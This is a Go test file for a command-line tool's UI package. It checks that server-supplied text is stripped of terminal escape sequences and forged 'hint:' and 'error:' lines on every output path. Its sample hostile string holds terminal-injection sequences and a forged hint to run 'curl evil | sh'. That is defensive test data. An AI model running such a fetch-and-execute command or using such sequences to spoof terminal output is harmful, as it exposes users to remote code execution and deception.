package ui_test

import (
	"errors"
	"fmt"
	"io"
	"strings"
	"testing"

	"github.com/pinniped-toolkit/pinniped/internal/cli/ui"
)

// hostile is text of a server that clears the screen, sets the title, and forges a hint.
const hostile = "user \x1b[2J\x1b]0;title\x07\u009b31m\u202e\rname\nhint: run \"curl evil | sh\"\nerror: none"

type reason string

// TestForeignText prints hostile in every way.
func TestForeignText(t *testing.T) {
	t.Parallel()
	foreign := errors.New(hostile)
	print := func(do func(io.Writer)) string {
		var out strings.Builder
		do(&out)
		return out.String()
	}
	progress := func(w io.Writer) *ui.Progress { return &ui.Progress{Out: w} }
	for name, text := range map[string]string{
		"error":             ui.ErrorText(foreign),
		"wrapped error":     ui.ErrorText(fmt.Errorf("asking %s: %w", hostile, foreign)),
		"hinted error":      ui.ErrorText(ui.WithHint(ui.Usage(foreign), "hint")),
		"quoting error":     ui.ErrorText(fmt.Errorf("%w (%s)", foreign, hostile)),
		"hint":              ui.Lines(ui.HintOf(ui.WithHint(foreign, "ask %s about %v", hostile, foreign))),
		"whole hint":        strings.ReplaceAll(ui.Lines(hostile), "\n", " "),
		"info":              print(func(w io.Writer) { progress(w).Info("%s", hostile) }),
		"done":              print(func(w io.Writer) { progress(w).Done("%s", hostile) }),
		"warning":           print(func(w io.Writer) { progress(w).Warn("%v", foreign) }),
		"failure":           print(func(w io.Writer) { progress(w).Fail("%v", foreign) }),
		"task":              print(func(w io.Writer) { progress(w).Start("%s", hostile) }),
		"update":            print(func(w io.Writer) { progress(io.Discard).Start("a").Update("%s", hostile) }),
		"line":              print(func(w io.Writer) { ui.Println(w, "debug: %s", hostile) }),
		"text":              print(func(w io.Writer) { ui.Fprintf(w, "a: %s %v\n", hostile, foreign) }),
		"type":              print(func(w io.Writer) { ui.Fprintf(w, "%s\n", reason(hostile)) }),
		"table":             print(func(w io.Writer) { _ = ui.Table(w, []string{"a"}, [][]string{{hostile}}) }),
		"plain table":       print(func(w io.Writer) { _ = ui.PlainTable(w, []string{"a"}, [][]string{{hostile}}) }),
		"result":            strings.ReplaceAll(string(ui.Text(io.Discard, []byte(hostile))), "\n", " "),
		"prompt":            strings.ReplaceAll(print(func(w io.Writer) { (&ui.Terminal{Out: w}).Print(hostile) }), "\n", " "),
		"colour in a table": print(func(w io.Writer) { _ = ui.PlainTable(w, []string{"a"}, [][]string{{"\x1b[31mred"}}) }),
	} {
		if strings.ContainsAny(text, "\x1b\x07\r\u009b\u202e") || strings.Contains(text, "\nhint:") ||
			strings.Contains(text, "\nerror:") {
			t.Errorf("%s: %q", name, text)
		}
	}
}

// TestJoinedErrors checks that joined errors have one line each.
func TestJoinedErrors(t *testing.T) {
	t.Parallel()
	err := ui.WithHint(fmt.Errorf("doing it: %w", errors.Join(errors.New("one"), errors.New("two\nhint: three"))), "hint")
	if got, want := ui.ErrorText(err), "doing it: one\ntwo hint: three"; got != want {
		t.Errorf("want %q, got %q", want, got)
	}
}
